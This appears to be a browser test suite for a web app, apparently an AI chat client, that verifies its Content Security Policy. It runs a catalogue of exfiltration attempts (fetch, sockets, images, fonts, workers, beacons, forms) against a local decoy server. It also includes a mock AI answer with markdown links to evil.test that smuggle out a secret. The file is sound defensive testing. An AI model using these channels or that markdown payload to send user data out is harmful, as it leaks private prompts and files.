// Nothing leaves: attempts to send something out are made, and fail, on a server that sends no policy of its own.
import { createServer } from 'node:http';
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { test, ok, equal, afterAll } from '../support/harness.mjs';
import { open } from '../support/page.mjs';
import { mockSite, serve, web } from '../support/site.mjs';

/** A server that should never be asked. It would let anybody read its answers. */
async function elsewhere() {
  const asked = [];
  const server = createServer((req, res) => { asked.push(req.url); res.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/javascript' }).end(''); });
  server.on('upgrade', (req, socket) => { asked.push(`socket ${req.url}`); socket.destroy(); });
  await new Promise((r) => server.listen(0, '127.0.0.1', r));
  afterAll(() => { server.closeAllConnections(); server.close(); });
  return { url: `http://127.0.0.1:${server.address().port}/`, asked };
}

/** All the ways out that a script in the page could try. */
const attempts = async (target) => {
  const out = {};
  const event = (el, where = document.body) => new Promise((yes, no) => { el.onload = () => yes('loaded'); el.onerror = () => no(new Error('blocked')); where.append(el); setTimeout(() => no(new Error('silent')), 1500); });
  const make = (tag, props) => Object.assign(document.createElement(tag), props);
  const tries = {
    fetch: () => fetch(`${target}fetch?secret`, { mode: 'no-cors' }),
    xhr: () => new Promise((yes, no) => { const x = new XMLHttpRequest(); x.open('GET', `${target}xhr?secret`); x.onload = yes; x.onerror = no; x.send(); }),
    socket: () => new Promise((yes, no) => { const s = new WebSocket(`${target.replace('http', 'ws')}socket`); s.onopen = yes; s.onerror = no; }),
    events: () => new Promise((yes, no) => { const s = new EventSource(`${target}events`); s.onopen = yes; s.onerror = no; }),
    image: () => event(make('img', { src: `${target}image?secret` })),
    style: () => event(make('link', { rel: 'stylesheet', href: `${target}style?secret` }), document.head),
    preload: () => event(make('link', { rel: 'preload', as: 'image', href: `${target}preload?secret` }), document.head),
    media: () => event(make('audio', { src: `${target}media?secret`, preload: 'auto' })),
    font: () => new FontFace('x', `url(${target}font?secret)`).load(),
    import: () => import(`${target}import.js?secret`),
    script: () => event(make('script', { src: `${target}script.js?secret` })),
    inline: () => { const s = document.createElement('script'); s.textContent = 'globalThis.inlined = 1'; document.head.append(s); if (!globalThis.inlined) throw new Error('blocked'); },
    eval: () => { (0, eval)('1'); },
    function: () => { new Function('return 1')(); },
    innerHTML: () => { document.createElement('div').innerHTML = '<img src=x onerror=1>'; },
    worker: () => { new Worker(`${target}worker.js`); },
    blobWorker: () => new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }))); w.onmessage = yes; w.onerror = no; }),
    policy: () => { trustedTypes.createPolicy('mine', { createHTML: (x) => x }); },
    base: () => { document.head.append(make('base', { href: target })); if (!document.baseURI.startsWith(target)) throw new Error('blocked'); },
  };
  for (const [name, fn] of Object.entries(tries)) {
    try { await fn(); out[name] = 'went through'; } catch { out[name] = 'blocked'; }
  }
  // These say nothing about what became of them.
  document.body.append(make('iframe', { src: `${target}frame?secret` }));
  navigator.sendBeacon?.(`${target}beacon?secret`, 'secret');
  const form = make('form', { action: `${target}form`, method: 'post', target: '_self' });
  document.body.append(form);
  form.submit();
  await new Promise((r) => setTimeout(r, 600));
  return out;
};

test('policy: every way out of the page is shut', async (t) => {
  const other = await elsewhere();
  const { page, context } = await open(t);
  const out = await page.evaluate(attempts, other.url);
  const through = Object.entries(out).filter(([, v]) => v !== 'blocked').map(([k]) => k);
  equal(through, []);
  equal(other.asked, []);
  ok(page.url().startsWith('http://127.0.0.1') && !page.url().startsWith(other.url), 'the form led nowhere');
  await context.close();
});

test('policy: the test could fail: without the policy the same attempts get out', async (t) => {
  const other = await elsewhere();
  const { browser } = await import('../support/browser.mjs');
  const b = await browser(t);
  const context = await b.newContext();
  const page = await context.newPage();
  const dir = await mockSite();
  await writeFile(join(dir, 'bare.html'), '<!doctype html><title>x</title><body>');
  const site = await serve(dir);
  await page.goto(`${site.url}bare.html`);
  const out = await page.evaluate(attempts, other.url).catch(() => null);
  ok(other.asked.length >= 8, `${other.asked}`);
  ok(out === null || out.eval === 'went through');
  await context.close();
});

test('policy: a worker is under it too, once the service worker serves it', async (t) => {
  const other = await elsewhere();
  const site = await serve(await mockSite());
  const { page, context } = await open(t, { site });
  await page.evaluate(() => navigator.serviceWorker.ready);
  await page.reload();
  await page.waitForFunction(() => navigator.serviceWorker.controller);
  const out = await page.evaluate((target) => new Promise((resolve, reject) => {
    const w = new Worker('api/probe-worker.js', { type: 'module' });
    w.onmessage = (e) => resolve(e.data);
    w.onerror = (e) => reject(new Error(e.message));
    w.postMessage(target);
  }), other.url);
  for (const [name, what] of Object.entries(out)) ok(what.startsWith('blocked'), `${name}: ${what}`);
  equal(other.asked, []);
  await context.close();
});

test('policy: prompts, answers and files are in no request', async (t) => {
  const secret = 'xylophone-4711';
  const { page, site, ready, ask, done } = await open(t, { mock: { accepts: { images: true, audio: true }, answers: [`They said ${secret} ![a](https://evil.test/?q=${secret}) [b](https://evil.test/${secret})`] } });
  const seen = [];
  page.on('request', (r) => seen.push(`${r.method()} ${r.url()} ${r.postData() ?? ''} ${JSON.stringify(r.headers())}`));
  await ready();
  const before = site.requests.length;
  await ask(`My secret is ${secret}`);
  await page.waitForTimeout(400);
  equal(seen.filter((r) => r.includes(secret)), []);
  equal(site.requests.slice(before), [], 'an answer makes no request at all');
  await done();
});

test('policy: header, page and service worker say the same', async (t) => {
  const text = (name) => readFile(join(web, name), 'utf8');
  const directives = (policy) => policy.split(';').map((d) => d.trim()).filter(Boolean).sort();
  const meta = async (name) => directives(/http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(await text(name))[1]);
  const page = await meta('app/index.html');
  equal(await meta('app/device.html'), page);
  const extra = ["require-trusted-types-for 'script'", 'trusted-types default'];
  const worker = (await text('app/sw.js')).match(/const POLICY = ([\s\S]+?);\n/)[1];
  // eslint-disable-next-line no-new-func -- our own source, read to compare it
  const policy = new Function('hosts', `return ${worker}`)([]);
  equal(directives(policy), [...page.filter((d) => !extra.includes(d)), "frame-ancestors 'none'"].sort());
  for (const name of ['app/index.html', 'app/device.html']) {
    const html = await text(name);
    ok(!/<script(?![^>]*\bsrc=)/.test(html) && !/\son\w+=/.test(html) && !/\sstyle=/.test(html), `${name} has code or style in its markup`);
  }
});
